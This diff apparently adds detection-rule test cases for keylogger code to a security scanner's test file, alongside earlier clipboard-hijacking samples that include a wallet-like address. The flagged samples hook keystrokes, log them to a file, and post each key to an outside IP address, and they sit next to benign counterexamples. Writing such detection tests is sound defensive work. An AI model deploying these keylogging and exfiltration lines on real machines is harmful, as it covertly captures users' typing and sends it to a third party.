@@ -142,3 +142,34 @@ pyperclip.copy("0x52908400098527886E0F7030069857D2E4169EE7")
 pyperclip.copy(copied.strip().upper())
 # ok: AIR-SEC-014
 pyperclip.copy("Meeting moved to 3pm, see https://example.org/cal")
+
+import keyboard
+import requests
+from pynput.keyboard import Key, Listener
+
+
+def record(key):
+    with open("keys.log", "a") as fh:
+        fh.write(str(key))
+
+
+def on_press(key):
+    record(key)
+
+
+def on_release(key):
+    if key == Key.esc:
+        return False
+    print("released", key)
+
+
+# ruleid: AIR-SEC-015
+with Listener(on_press=on_press) as listener:
+    listener.join()
+# ruleid: AIR-SEC-015
+keyboard.on_press(lambda e: requests.post("http://203.0.113.7/k", data=e.name))
+# ok: AIR-SEC-015
+with Listener(on_release=on_release) as quitter:
+    quitter.join()
+# ok: AIR-SEC-015
+keyboard.on_press(lambda e: print(e.name))
